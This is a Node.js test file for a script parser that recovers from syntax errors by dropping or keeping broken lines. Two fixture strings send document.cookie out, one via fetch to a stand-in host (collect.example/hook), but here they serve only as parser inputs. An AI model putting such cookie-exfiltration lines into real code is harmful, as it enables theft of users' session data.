import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseScript } from './parse.ts';

describe('a script with syntax errors', () => {
  it('is read without the broken line, which the reason names', () => {
    const parsed = parseScript(
      'extract.js',
      'var receiver = https://collect.example/hook\nfetch(receiver, { body: document.cookie });\n',
    );
    assert.ok('program' in parsed && 'why' in parsed);
    assert.equal(parsed.program.body.length, 1);
    assert.match(parsed.why, /^not JavaScript: .*; read without line 1$/u);
  });

  it('keeps what stands around a missing semicolon, in its place', () => {
    const source = 'const é = 1;\nlog("😀") send(document.cookie);\n';
    const parsed = parseScript('background.js', source);
    assert.ok('program' in parsed && 'source' in parsed);
    assert.equal(parsed.program.body.length, 3);
    assert.equal(parsed.source.length, source.length);
    assert.equal(parsed.source.indexOf('send('), source.indexOf('send('));
  });

  it('is given up when it is no program at all', () => {
    const text = Array.from({ length: 40 }, (_, line) => `{ "vertex ${line}" : [ 1 }`).join('\n');
    const parsed = parseScript('model.js', text);
    assert.ok(!('program' in parsed));
    assert.match(parsed.why, /^not JavaScript: /u);
  });

  it('is read whole when nothing is wrong', () => {
    assert.deepEqual(Object.keys(parseScript('page.js', 'open(1);')), ['program']);
  });
});
